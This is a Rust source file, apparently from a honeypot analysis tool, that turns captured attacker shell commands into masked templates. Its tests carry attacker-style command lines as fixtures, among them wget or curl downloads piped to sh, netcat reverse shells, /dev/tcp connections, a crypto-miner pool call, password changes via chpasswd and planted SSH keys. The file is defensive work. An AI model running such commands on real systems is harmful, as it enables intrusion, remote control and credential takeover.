//! A command without what varies between two runs of the same script.

use cowrie_shell::{Operator, Piece, pieces};

use crate::mask::mask;
use crate::{credential, front};

/// The version of [`template`], part of every signature.
///
/// Templates are kept hashed in databases, so every change of what [`template`] returns for any
/// input takes a new number.
pub const TEMPLATE_VERSION: u32 = 1;

/// How much of a command is read for its template and risk, in bytes.
pub(crate) const READ_BYTES: usize = 64 * 1024;

/// The command with its variable parts masked and its spacing made uniform.
///
/// The masks are `<url>`, `<ip>`, `<host>` (a host name given to a network tool), `<port>` (after
/// an address), `<key>` (an SSH public key and its comment), `<hex>` (eight hexadecimal digits or
/// more, or bytes written as escapes), `<b64>`, `<credential>` (what is piped or given to
/// `chpasswd`, `passwd` and options for passwords), `<name>` (a name that looks random, and the
/// made-up applet in `busybox ECCHI`), `<n>` (a number of five to seven digits). A command that is
/// mostly control characters or undecodable bytes is `<binary>`.
///
/// Line ends and `;` both become `; `; space around other operators is made uniform. Statements
/// that follow each other, are equal and carry `<hex>` or `<b64>` are written once: a payload's
/// pieces are as many as it is long. Only the first 64 KiB are read; what is longer ends in
/// `<more>`. The result holds no ASCII control characters. Linear in the length of the command.
pub fn template(command: &str) -> String {
    let text = front(command, READ_BYTES);
    if is_binary(text) {
        return "<binary>".to_owned();
    }
    let mut writer = Writer { out: String::with_capacity(text.len().min(512)), last: None };
    let has_credentials = credential::may_appear(text);
    let mut pieces = pieces(text).peekable();
    while let Some(piece) = pieces.next() {
        let secrets =
            if has_credentials { credential::ranges(&piece, pieces.peek()) } else { Vec::new() };
        writer.statement(&piece, &secrets);
        writer.operator(piece.end);
    }
    writer.finish(text.len() < command.len())
}

/// Whether equal templates in a row stand for the pieces of one payload.
pub(crate) fn carries_payload(template: &str) -> bool {
    template.contains("<hex>") || template.contains("<b64>")
}

/// A tenth of the characters, or more, that no shell would get from a keyboard.
fn is_binary(text: &str) -> bool {
    let mut characters = 0_usize;
    let mut strange = 0_usize;
    for character in text.chars() {
        characters += 1;
        let is_space = matches!(character, '\t' | '\n' | '\r');
        strange += usize::from(character == '\u{fffd}' || (character.is_control() && !is_space));
    }
    strange > 0 && strange * 10 >= characters
}

/// Writes statements and the operators between them.
struct Writer {
    out: String,
    /// Where the last statement written begins and ends.
    last: Option<(usize, usize)>,
}

impl Writer {
    fn statement(&mut self, piece: &Piece<'_>, secrets: &[std::ops::Range<usize>]) {
        if piece.text.is_empty() {
            return;
        }
        let start = self.out.len();
        mask(piece, secrets, &mut self.out);
        self.out.truncate(self.out.trim_end().len().max(start));
        let written = self.out.get(start..).unwrap_or_default();
        let is_repeated = carries_payload(written)
            && self.last.is_some_and(|(from, to)| {
                self.out.get(to..start) == Some("; ") && self.out.get(from..to) == Some(written)
            });
        if is_repeated {
            self.out.truncate(start);
        } else {
            self.last = Some((start, self.out.len()));
        }
    }

    fn operator(&mut self, operator: Operator) {
        let written = match operator {
            Operator::End => return,
            Operator::Sequence if self.out.trim_end().ends_with([';', '&', '|', '(']) => return,
            Operator::Sequence if self.out.is_empty() => return,
            Operator::Sequence => "; ",
            Operator::And => " && ",
            Operator::Or => " || ",
            Operator::Pipe => " | ",
            Operator::Background => " & ",
            Operator::Open => "(",
            Operator::Close => ") ",
        };
        if operator != Operator::Open {
            self.out.truncate(self.out.trim_end().len());
        }
        let written = if self.out.is_empty() { written.trim_start() } else { written };
        self.out.push_str(written);
    }

    fn finish(mut self, is_cut: bool) -> String {
        let end = self.out.trim_end_matches([';', ' ']).len();
        self.out.truncate(end);
        if is_cut {
            self.out.push_str(" <more>");
        }
        self.out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(command: &str, expected: &str) {
        assert_eq!(template(command), expected);
    }

    #[test]
    fn urls_and_addresses() {
        check("wget http://192.0.2.1:8080/bins/x.sh -O /tmp/x.sh", "wget <url> -O /tmp/x.sh");
        check("curl 'https://e.example/a?b=1&c=2;d'|sh", "curl '<url>;d' | sh");
        check("wget \"http://192.0.2.1/r?b='q'&c\" -O q", "wget \"<url>\" -O q");
        check("python -c \"get('http://e.example/x')\"", "python -c \"get('<url>')\"");
        check("xmrig -o stratum+tcp://p.example:3333", "xmrig -o <url>");
        check("URL=http://e.example/x;wget $URL", "URL=<url>; wget $URL");
        check("tftp -g -r arm 192.0.2.7 69", "tftp -g -r arm <ip> <port>");
        check("wget 192.0.2.7/x.sh; curl e.example:80/y", "wget <url>; curl <url>");
        check("ping c2.e.example; curl -O x.sh", "ping <host>; curl -O x.sh");
        check("nc -e /bin/sh 192.0.2.7 4444", "nc -e /bin/sh <ip> <port>");
        check("ssh root@192.0.2.7", "ssh root@<ip>");
        check("nc 192.0.2.7:99 [2001:db8::1]:80", "nc <ip>:<port> [<ip>]:80");
        check("ping6 2001:db8::5", "ping6 <ip>");
        check("masscan 192.0.2.0/24,198.51.100.1", "masscan <ip>/24,<ip>");
        check("exec 6<>/dev/tcp/192.0.2.1/5261", "exec 6<> /dev/tcp/<ip>/<port>");
    }

    #[test]
    fn blobs_keys_and_numbers() {
        check("echo -ne '\\x7f\\x45\\x4c' >> .d", "echo -ne '<hex>' >> .d");
        check("printf '\\x7fELF\\x01\\x01 a\\n'", "printf '<hex> a\\n'");
        check("echo '\\033[31m' '\\177\\105'", "echo '\\033[31m' '<hex>'");
        check("x 0xdeadbeef 123e4567-e89b-12d3-a456-426614174000", "x <hex> <hex>");
        check("echo IyEvYmluL3NoCmVjaG8gcHduZWQ= | base64 -d", "echo <b64> | base64 -d");
        check("head -n 10 /proc/1; kill 48213 1700000000", "head -n 10 /proc/1; kill <n> <hex>");
        let key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDDQ0LfD3yFkMAgW/cnyr6O2A==";
        let planted = format!("echo \"{key} a b\">>k; echo {key} >> k");
        check(&planted, "echo \"<key>\" >> k; echo <key> >> k");
    }

    #[test]
    fn names() {
        check("/bin/busybox ECCHI; busybox 8B35B", "/bin/busybox <name>; busybox <name>");
        check("/bin/busybox cat /proc/mounts", "/bin/busybox cat /proc/mounts");
        check("cd /tmp; sh /tmp/.kq7x.sh a", "cd /tmp; sh /tmp/.<name>.sh a");
        check("/tmp/0de8ac90 6d57c6 >/dev/16de", "/tmp/<name> <name> > /dev/<name>");
        check(
            "/tmp/x.sh /var/tmp/run.bin /dev/shm/Qx3pZ",
            "/tmp/x.sh /var/tmp/run.bin /dev/shm/<name>",
        );
        check("./hX82kqPz -a --id=hX82kqPz", "./<name> -a --id=<name>");
        check("ftpget dmidecode; sudo lspci", "ftpget dmidecode; sudo lspci");
        check(
            "export HISTFILE=/dev/null LC_ALL=en_US.UTF-8",
            "export HISTFILE=/dev/null LC_ALL=en_US.UTF-8",
        );
    }

    #[test]
    fn credentials() {
        check("echo \"root:Xk2abc\"|chpasswd|bash", "echo \"root:<credential>\" | chpasswd | bash");
        check("echo -e \"a\\nb\"|sudo passwd bob", "echo -e \"<credential>\" | sudo passwd bob");
        check("chpasswd <<< 'phil:x;1'", "chpasswd <<< 'phil:<credential>'");
        check("chpasswd <<E\nroot:x\nE\nid", "chpasswd << E; <credential>; E; id");
        check("useradd -m -p x -s /bin/bash bob", "useradd -m -p <credential> -s /bin/bash bob");
        check("usermod --password=x bob", "usermod --password=<credential> bob");
        check("openssl passwd -1 secret", "openssl passwd -1 <credential>");
        check("curl -u me:secret http://e.example", "curl -u me:<credential> <url>");
        check("echo password | cat", "echo password | cat");
    }

    #[test]
    fn spacing_and_line_ends() {
        check("  a ;b&&c||d|e>f 2>/dev/null&", "a; b && c || d | e > f 2> /dev/null &");
        check("a 2 > /dev/null", "a 2> /dev/null");
        check("a>>b 2>&1 <c", "a >> b 2>&1 < c");
        check("#!/bin/sh\nuname -a\r\n\nid\n", "#!/bin/sh; uname -a; id");
        check("#!/bin/sh; uname -a; id; ", "#!/bin/sh; uname -a; id");
        check("(a;b)|c", "(a; b) | c");
        check("cat>f<<EOF\n  x y\nEOF\nsh f", "cat > f << EOF; x y; EOF; sh f");
        check("", "");
        check(" ; \n", "");
        check("echo 'é  ü'", "echo 'é ü'");
    }

    #[test]
    fn payloads_in_pieces_and_noise() {
        let pieces = "echo '\\x01\\x02' >> f; ".repeat(5);
        check(&pieces, "echo '<hex>' >> f");
        check("id; id", "id; id");
        check("\u{0}\u{1}\u{fffd}x", "<binary>");
        check("echo a long enough line \u{1b}[0m", "echo a long enough line \u{fffd}[0m");
        let long = format!("echo {}", "ab ".repeat(40_000));
        assert!(template(&long).ends_with("<more>") && template(&long).len() < 70_000);
    }
}
